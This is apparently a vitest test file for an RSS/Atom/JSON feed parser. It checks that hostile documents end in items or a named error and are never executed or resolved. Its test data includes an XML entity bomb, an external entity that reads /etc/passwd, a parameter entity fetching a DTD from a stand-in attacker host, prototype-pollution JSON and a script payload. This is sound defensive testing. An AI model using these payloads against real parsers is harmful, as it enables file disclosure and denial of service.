import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { decodeDocument } from '../../../crawler/decode-document.ts'
import { CrawlError, messageOf } from '../../../model/errors.ts'
import { atom, readFeed, rss } from './read-feed.ts'

const ITEM = '<item><title>Eerste</title></item>'
const CHARACTERS = 500_000
const many = (part: string) => part.repeat(CHARACTERS / part.length)

/** Documents made to take for ever, and how each ends: with items, or an error of this kind. */
const HOSTILE: readonly (readonly [string, string, number | 'parse' | 'not_a_feed' | 'empty'])[] = [
  ['120 KB of x<p in a title', rss(`<item><title>${'x<p'.repeat(40_000)}</title></item>`), 1],
  ['120 KB of x<p and nothing else', 'x<p'.repeat(40_000), 'not_a_feed'],
  ['500 KB of unclosed tags', rss(ITEM + many('<a>')), 'parse'],
  ['500 KB of unclosed tags in a text', rss(`<item><description>${many('<b>')}`), 'parse'],
  [
    '500 KB of unclosed paragraphs',
    rss(`<item><description>${many('<p>x')}</description></item>`),
    1,
  ],
  ['500 KB of unclosed items', `<rss><channel>${many('<item><title>x')}`, 35_713],
  ['more items than we take', `<rss><channel>${'<item/>'.repeat(60_000)}`, 'parse'],
  ['500 KB of end tags', rss(`<item><title>x</title>${many('</b>')}</item>`), 1],
  ['500 KB of <', rss(`<item><title>${many('<')}</title></item>`), 'parse'],
  ['500 KB of &', rss(`<item><title>${many('&')}</title></item>`), 1],
  ['500 KB of &#', rss(`<item><title>${many('&#')}</title></item>`), 1],
  ['comments that never end', rss(ITEM + many('<!--')), 1],
  ['CDATA that never ends', rss(`<item><title>x</title><description>${many('<![CDATA[')}`), 1],
  ['CDATA that nearly ends', rss(`<item><title>x</title><description><![CDATA[${many(']]')}`), 1],
  ['instructions that never end', rss(ITEM + many('<?')), 1],
  ['declarations that never end', rss(ITEM + many('<!')), 1],
  [
    'a DOCTYPE that never ends',
    `<!DOCTYPE rss [${many('<!ENTITY a "b">')}${rss(ITEM)}`,
    'not_a_feed',
  ],
  [
    'thousands of attributes',
    rss(`<item ${Array.from({ length: 9999 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    'parse',
  ],
  ['quotations that never end', rss(`${ITEM}<link ${many('a="<')}`), 1],
  ['a namespace on every element', rss(many('<item xmlns:a="b">')), 27_777],
  ['a tag that is one long name', rss(`${ITEM}<${many('a:')}/>`), 1],
  [
    'an element nested in itself',
    rss(`<item><title>x</title>${'<x>'.repeat(199)}</item>`),
    'parse',
  ],
  ['dates without end', rss(`<item><title>x</title>${many('<pubDate>x</pubDate>')}</item>`), 1],
  ['links without end', rss(`<item><title>x</title>${many('<link>x</link>')}</item>`), 1],
  [
    'time elements that never end',
    rss(`<item><title>x</title><description>${many('&lt;time ')}</description></item>`),
    1,
  ],
  [
    'JSON nested without end',
    `{"version":"https://jsonfeed.org/version/1","items":${many('[')}`,
    'parse',
  ],
  ['blanks', many(' '), 'empty'],
  ['a page of tags that never end', `<html>${many('<div')}`, 'not_a_feed'],
  ['roots that never end', many('<rdf'), 'not_a_feed'],
]

async function endingOf(text: string): Promise<number | string> {
  try {
    return (await readFeed(text)).items.length
  } catch (error) {
    return error instanceof Error && 'kind' in error ? String(error.kind) : messageOf(error)
  }
}

describe('parseFeed', () => {
  it.each(HOSTILE)('is done with %s', async (_, text, ending) => {
    expect(await endingOf(text)).toBe(ending)
  })

  it('reads 10,000 items', async () => {
    const item = (n: number) =>
      `<item><title>Item ${n}</title><link>/${n}</link><guid>${n}</guid></item>`
    const { items } = await readFeed(
      rss(Array.from({ length: 10_000 }, (_, n) => item(n)).join('')),
    )

    expect(items).toHaveLength(10_000)
    expect(items.at(-1)).toEqual({
      title: 'Item 9999',
      url: 'https://feed.test/9999',
      guid: '9999',
    })
  })

  it('reads a title of five megabytes, whole', async () => {
    const title = 'Lange titel &amp; '.repeat(300_000)

    expect(
      (await readFeed(rss(`<item><title>${title}</title></item>`))).items[0]?.title,
    ).toHaveLength(14 * 300_000 - 1)
  })

  it('never resolves what a DOCTYPE declares, from inside or outside', async () => {
    const bomb =
      '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.test/x.dtd"> %p;'
    const text = rss('<item><title>&c;&x;!</title></item>').replace(
      '<rss',
      `<!DOCTYPE rss [${bomb}]><rss`,
    )

    expect((await readFeed(text)).items).toEqual([{ title: '&c;&x;!' }])
  })

  it('finds no item in a DOCTYPE', async () => {
    const subset = '<!ENTITY x "<a><item><title>Vals</title></item>"> <!-- ] > -->'

    expect((await readFeed(`<!DOCTYPE rss [${subset}]>${rss(ITEM)}`)).items).toEqual([
      { title: 'Eerste' },
    ])
  })

  it('steps over a DOCTYPE that only points elsewhere', async () => {
    const doctype =
      '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'

    expect((await readFeed(doctype + rss(ITEM))).items).toEqual([{ title: 'Eerste' }])
  })

  it('is not polluted by names of prototypes', async () => {
    const names =
      '<__proto__><polluted>1</polluted></__proto__><constructor>x</constructor><prototype/>'
    const json =
      '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"polluted":1},"items":[{"id":"1","__proto__":{"title":"x","polluted":1},"constructor":{"prototype":{"polluted":1}}}]}'
    const { items } = await readFeed(
      rss(`<item ${'__proto__="1"'}>${names}<title>T</title></item>`),
    )

    expect(items).toEqual([{ title: 'T' }])
    expect((await readFeed(json)).items).toEqual([{ guid: '1' }])
    expect(
      (await readFeed(atom('<entry><__proto__/><toString/><title>T</title></entry>'))).items,
    ).toEqual([{ title: 'T' }])
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
  })

  it('hands on a script in a title as text of that title, and never runs a thing', async () => {
    const { items } = await readFeed(
      rss(
        '<item><title>A<script>alert(1)</script>B</title><link>javascript:alert(1)</link></item>',
      ),
    )

    expect(items).toEqual([{ title: 'A<script>alert(1)</script>B', url: 'javascript:alert(1)' }])
  })

  it('makes of any bytes items or a named error', async () => {
    const part = fc.constantFrom(
      ...'< > </ /> <![CDATA[ ]]> <!-- --> <? ?> " \' = & ; : &#38; é'.split(' '),
    )
    const word = fc.constantFrom(
      ...'rss feed item entry title link description p br a 2026 \u0000'.split(' '),
    )
    const bytes = fc
      .array(fc.oneof(part, word), { maxLength: 60 })
      .map((parts) => Buffer.from(`<rss><channel>${parts.join('')}`, 'latin1'))

    await fc.assert(
      fc.asyncProperty(bytes, async (document) => {
        const result = await readFeed(decodeDocument(document, '')).catch((error: unknown) => error)
        expect(
          result instanceof CrawlError || Array.isArray(Reflect.get(Object(result), 'items')),
        ).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })
})
